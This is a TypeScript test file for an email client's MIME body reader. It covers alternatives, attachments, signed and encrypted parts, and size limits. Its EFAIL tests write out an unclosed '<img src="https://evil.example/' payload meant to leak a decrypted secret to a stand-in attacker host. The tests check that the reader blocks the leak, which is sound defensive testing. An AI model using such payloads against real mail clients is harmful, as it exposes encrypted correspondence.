import { describe, expect, it } from 'vitest'
import { limits } from './limits.ts'
import { readMimeTree } from './mime-tree.ts'
import { readBody } from './read-body.ts'

interface Node {
  type: string
  headers?: string[]
  body?: string
  parts?: Node[]
}

/** A part as its sender would write it. */
function write({ type, headers = [], body = '', parts = [] }: Node, level = 0): string {
  const boundary = `level-${level}`
  if (!type.startsWith('multipart/')) return [`Content-Type: ${type}`, ...headers, '', body].join('\r\n')
  const written = parts.map((part) => `--${boundary}\r\n${write(part, level + 1)}\r\n`)
  return `Content-Type: ${type}; boundary=${boundary}\r\n\r\n${written.join('')}--${boundary}--`
}

function read(node: Node) {
  const source = Buffer.from(write(node))
  const { parts, alternatives, attachments, truncated } = readBody(source, readMimeTree(source).root)
  return {
    parts: parts.map(({ kind, content }) => `${kind}: ${content}`),
    alternatives: alternatives.map(({ kind, content }) => `${kind}: ${content}`),
    attachments: attachments.map(({ mediaType }) => mediaType),
    truncated,
  }
}

const text = (body: string, ...headers: string[]): Node => ({ type: 'text/plain', headers, body })
const html = (body: string, ...headers: string[]): Node => ({ type: 'text/html', headers, body })
const other = (type: string): Node => ({ type, body: 'x' })
const multipart = (kind: string, ...parts: Node[]): Node => ({ type: `multipart/${kind}`, parts })

describe('readBody', () => {
  it('shows the HTML of an alternative and keeps its text for search', () => {
    for (const parts of [
      [text('t'), html('h')],
      [html('h'), text('t')],
    ]) {
      expect(read(multipart('alternative', ...parts))).toMatchObject({
        parts: ['html: h'],
        alternatives: ['text: t'],
        attachments: [],
      })
    }
  })

  it('shows the text where the HTML is empty, and the last of several', () => {
    expect(read(multipart('alternative', text('t'), html(' \r\n'))).parts).toEqual(['text: t'])
    expect(read(multipart('alternative', text('first'), text('second'))).parts).toEqual(['text: second'])
  })

  it('finds the HTML in the related part of an alternative, with its pictures', () => {
    const mail = multipart('alternative', text('t'), multipart('related', html('h'), other('image/png')))
    expect(read(mail)).toMatchObject({
      parts: ['html: h'],
      alternatives: ['text: t'],
      attachments: ['image/png'],
    })
  })

  it('shows every text of a mixed message in order', () => {
    const mail = multipart('mixed', text('one'), other('image/jpeg'), html('two'), text('list footer'))
    expect(read(mail)).toMatchObject({
      parts: ['text: one', 'html: two', 'text: list footer'],
      attachments: ['image/jpeg'],
    })
  })

  it('lists a text that was sent as a file, and lists and shows one that is to be shown in its place', () => {
    expect(
      read(multipart('mixed', text('t'), text('file', 'Content-Disposition: attachment'))),
    ).toMatchObject({
      parts: ['text: t'],
      attachments: ['text/plain'],
    })
    const patch = text('patch', 'Content-Disposition: inline; filename=a.patch')
    expect(read(multipart('mixed', text('t'), patch))).toMatchObject({
      parts: ['text: t', 'text: patch'],
      attachments: ['text/plain'],
    })
  })

  it('lists what is no text: calendars, messages, winmail.dat, reports, cards', () => {
    const types = [
      'text/calendar',
      'message/rfc822',
      'application/ms-tnef',
      'message/delivery-status',
      'text/rfc822-headers',
      'text/vcard',
      'application/pdf',
    ]
    expect(read(multipart('report', text('t'), ...types.map(other)))).toMatchObject({
      parts: ['text: t'],
      attachments: types,
    })
  })

  it('keeps the invitation that stands beside the text as its alternative', () => {
    const mail = multipart('alternative', text('t'), html('h'), other('text/calendar'))
    expect(read(mail)).toMatchObject({ parts: ['html: h'], attachments: ['text/calendar'] })
  })

  it('shows what was signed and lists the signature; shows nothing of what is encrypted', () => {
    expect(read(multipart('signed', html('h'), other('application/pgp-signature')))).toMatchObject({
      parts: ['html: h'],
      attachments: ['application/pgp-signature'],
    })
    const sealed = multipart(
      'encrypted',
      other('application/pgp-encrypted'),
      other('application/octet-stream'),
    )
    expect(read(sealed)).toMatchObject({
      parts: [],
      attachments: ['application/pgp-encrypted', 'application/octet-stream'],
    })
  })

  it('passes over forms of the body for other programs', () => {
    const mail = multipart('alternative', text('t'), other('text/x-amp-html'), html('h'))
    expect(read(mail)).toMatchObject({ parts: ['html: h'], attachments: [] })
  })

  it('unwraps format=flowed', () => {
    const flowed = { type: 'text/plain; format=flowed', body: 'one \r\ntwo\r\n> a \r\n> b\r\n-- \r\nme' }
    expect(read(flowed).parts).toEqual(['text: one two\n> a b\n-- \nme'])
  })

  it('leaves NUL out, which browsers treat in more than one way', () => {
    expect(read(html('<im\0g src=x>')).parts).toEqual(['html: <img src=x>'])
  })

  it('ends every line in the one way a page shows as a line', () => {
    expect(read(text('one\r\ntwo\rthree\nfour')).parts).toEqual(['text: one\ntwo\nthree\nfour'])
  })

  it('shows a multipart it can not take apart as it came', () => {
    expect(read({ type: 'multipart/mixed', parts: [] }).attachments).toEqual([])
    const source = Buffer.from('Content-Type: multipart/mixed\r\n\r\nstill words')
    expect(readBody(source, readMimeTree(source).root).parts).toEqual([
      { kind: 'text', content: 'still words' },
    ])
  })
})

describe('EFAIL: a part the sender can not read stays out of his reach', () => {
  it('keeps an open attribute in one part from swallowing the next', () => {
    const secret = text('the decrypted secret')
    const { parts } = read(multipart('mixed', html('<img src="https://evil.example/'), secret, html('">')))
    expect(parts).toEqual(['html: <img src="https://evil.example/', 'text: the decrypted secret', 'html: ">'])
  })

  it('does not join the text of an attached message to the body', () => {
    const attached = { type: 'message/rfc822', body: 'Content-Type: text/html\r\n\r\n<p>secret' }
    const { parts, alternatives } = read(
      multipart('mixed', html('<img src="https://evil.example/'), attached),
    )
    expect([...parts, ...alternatives].join()).not.toContain('secret')
  })
})

describe('readBody against mails made to exhaust it', () => {
  it('shows no more parts than its limit and lists the others', () => {
    const parts = Array.from({ length: limits.bodyParts + 5 }, () => html('h'))
    const { parts: shown, attachments, truncated } = read(multipart('mixed', ...parts))
    expect(shown).toHaveLength(limits.bodyParts)
    expect(attachments).toHaveLength(5)
    expect(truncated).toBe(true)
  })

  it('reads no more of one text, and of all together, than their limits', { timeout: 60_000 }, () => {
    const long = text('x'.repeat(limits.textPart + 1))
    const { parts, truncated } = read(multipart('mixed', long, long, long))
    const sizes = parts.map((part) => part.length - 'text: '.length)
    expect(sizes).toEqual([limits.textPart, limits.text - limits.textPart])
    expect(truncated).toBe(true)
  })
})
